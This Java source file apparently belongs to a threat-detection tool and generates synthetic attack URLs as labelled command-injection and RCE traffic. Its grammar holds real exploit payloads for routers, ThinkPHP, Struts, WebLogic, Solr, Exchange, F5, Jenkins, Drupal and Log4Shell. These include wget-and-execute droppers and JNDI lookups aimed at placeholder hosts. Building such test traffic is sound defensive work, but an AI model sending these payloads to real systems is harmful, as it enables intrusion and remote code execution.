package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Whole addresses that scanners try on every host, whether it has the flawed program or not. */
final class KnownFlaws {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            gap ::=
              3×+
              3×%20
              ${IFS}
            short_command ::=
              3×«id¦whoami¦ls¦pwd¦uname«=g»-a¦ps¦ifconfig¦cat«=g»/etc/passwd¦cat%20/«secret_file»¦netstat¦dir¦ver¦hostname»
              echo«=g»«alnum 4..12»
              «curl¦wget»«=g»http://«server»/«name»
              «nslookup¦ping«=g»-c«=g»«1..9»»«=g»«host»
              sleep«=g»«secs»
              expr«=g»«10..999»«=g»%2b«=g»«10..999»
              «10..999»*«10..999»
            drop ::=
              4×«?cd«=g»/tmp;»«?rm«=g»-rf«=g»*;»wget«=g»«?-O«=g»«name»«=g»»http://«server»/«name»«?.sh»;«chmod«=g»777«=g»«name»;./«name»¦sh«=g»«name»»«?;»
              2×cd«=g»/«tmp¦var/run¦mnt¦root»«=g»||«=g»cd«=g»/«var¦tmp»;«wget¦tftp«=g»-g«=g»-r¦curl«=g»-O»«=g»http://«server»/«name»;sh«=g»«name»
              2×«g!=gap»«short_command»
            enclosed ::=
              2×`«drop»`
              2×$(«drop»)
              2×;«drop»
              |«drop»
              %0a«drop»%0a
              ';«drop»;'
              %26%26«drop»
              "|«drop»|"
              %60«drop»%60
              %3B«drop»%23
            device ::=
              3×«g!=gap»/cgi-bin/«?«word»/»«name».«cgi¦sh¦asp¦pl¦rsp»?«name»=«enclosed»«?&«name»=«0..9»»
              2×«g!=gap»/cgi-bin/luci«?/;stok=«?«hex 16..32»»»/«locale¦admin/«word»¦api/xqsystem/«name»»?form=«country¦«word»»&operation=write&«country¦«name»»=«enclosed»
              2×«g!=gap»/shell?«drop»
              2×«g!=gap»/setup.cgi?next_file=«netgear¦«word»».cfg&todo=syscmd&cmd=«drop»&curpath=/&currentsetting.htm=1
              «g!=gap»/«board¦webcam¦snapshot¦admin¦apply¦tmUnblock¦system¦adv».cgi?«cmd¦action¦submit_button¦host»=«enclosed»
              «g!=gap»/goform/«name»?«name»=«enclosed»
              /language/«@mix «letters 5..8»»${IFS}&&«g!=gap»«drop»&&tar${IFS}/string.js
              «g!=gap»/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=«drop»
              «g!=gap»/GponForm/diag_Form?«images/¦style/»&XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=«enclosed»&ipv=0
              «g!=gap»/«ping¦traceroute¦nslookup¦diag¦tools/ping».«php¦asp¦jsp¦cgi»?«ip¦host¦target¦addr»=127.0.0.1«enclosed»
              «g!=gap»/cgi-bin/«mainfunction¦nas_sharing¦account_mgr¦authLogin¦system_mgr¦apply».cgi?«?user=«name»&»passwd=&cmd=«1..99»&system=«@base64 «unix_command»»
              «g!=gap»/cgi-bin/«5..8×.%2e/»bin/sh?«drop»
              «g!=gap»/boaform/admin/formPing?target_addr=«enclosed»&waninf=1_INTERNET_R_VID_«1..200»
              «g!=gap»/HNAP1/?«name»=«enclosed»
              «g!=gap»/api/v1/«totp/user-backup-code/../../«word»¦«word»»/«name»?«node¦cmd»=«enclosed»
            shell_file ::=
              «shell¦cmd¦c99¦r57¦wso¦b374k¦alfa¦up¦xx¦wp-conflg¦about¦config.bak¦mini¦0¦1¦backdoor¦webshell¦«name»»
            shell_folder ::=
              «uploads¦images¦wp-content/uploads/20«18..26»/«10..12»¦wp-content/plugins/«name»¦files¦tmp¦assets¦media¦«word»»
            flaw ::=
              5×«g!=gap»/«?«shell_folder»/»«shell_file».«php¦jsp¦asp¦aspx¦phtml»?«cmd¦c¦exec¦command¦x¦q¦0¦action=cmd&cmd»=«short_command»
              2×/«?«word»/»«vendor/¦lib/¦laravel/vendor/¦»phpunit/«?phpunit/»«?src/»Util/PHP/eval-stdin.php«??«name»=«0..99»»
              3×«g!=gap»/«?«word»/»«index.php¦public/index.php¦»?s=/«?I»«?i»ndex/«?\\»think\\«app¦Container¦Request»/«invokefunction¦input»&function=call_user_func_array&vars[0]=«system¦shell_exec¦phpinfo¦md5¦assert»&vars[1][]=«short_command»
              2×«g!=gap»/«hello.world¦index.php¦cgi-bin/php¦test.php»?%«AD¦ad»d+allow_url_include%3d«1¦on»+%«AD¦ad»d+auto_prepend_file%3dphp://input«?&«name»=«short_command»»
              2×/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22«g!=gap»«short_command»%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/
              2×/«?«word»/»«index¦login¦«word»».«action¦do»?«redirect¦action¦redirectAction»:%24%7B%23a%3D(new+java.lang.ProcessBuilder(new+java.lang.String[]{'«name»'})).start()%7D
              2×«g!=gap»/«?«word»/»console/«css¦images»/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('«short_command»');")
              2×/solr/«word»/«select¦config¦dataimport»?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x='')+%23set($rt=$x.class.forName('java.lang.Runtime'))+$rt.getRuntime().exec('«name»')
              2×/autodiscover/autodiscover.json?@«host»/«mapi/nspi/¦owa/¦powershell/»?&Email=autodiscover/autodiscover.json%3f@«host»
              2×/tmui/login.jsp/..;/tmui/locallb/workspace/«fileRead.jsp?fileName=/«secret_file»¦tmshCmd.jsp?command=list+auth+user+«user»»
              2×«g!=gap»/«?securityRealm/user/«user»/»descriptorByName/org.jenkinsci.plugins.«name»/checkScript?sandbox=true&value=public+class+x{public+x(){"«short_command»".execute()}}
              «g!=gap»/«geoserver/wfs¦geoserver/ows»?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=«word»&valueReference=exec(java.lang.Runtime.getRuntime(),'«short_command»')
              «g!=gap»/«druid¦nifi¦airflow¦«word»»/api/«name»?script=«?java.lang.»Runtime.getRuntime().exec("«short_command»")
              /user/«1..99»?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax&mail[#post_render][]=exec&mail[#markup]=«name»
              «g!=gap»/«ajax¦widget»/render/widget_«tabbedcontainer_tab_panel¦php»?subWidgets[0][template]=widget_php&subWidgets[0][config][code]=«system¦shell_exec»('«short_command»');
              /«index.php¦»?option=com_«letters 4..8»&«view¦task»=«word»&«name»=%24%7Bjndi:ldap://«host»/«name»%7D
              /?x=${jndi:«ldap¦rmi¦dns»://${«hostName¦sys:user.name¦env:USER»}.«host»/«name»}
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            AttackFamily.of("device_command", ThreatType.COMMAND_INJECTION, GRAMMAR.from("device"))
                    .in(Placement.ADDRESS),
            AttackFamily.of("server_flaw", ThreatType.RCE, GRAMMAR.from("flaw")).in(Placement.ADDRESS));

    private KnownFlaws() {}
}
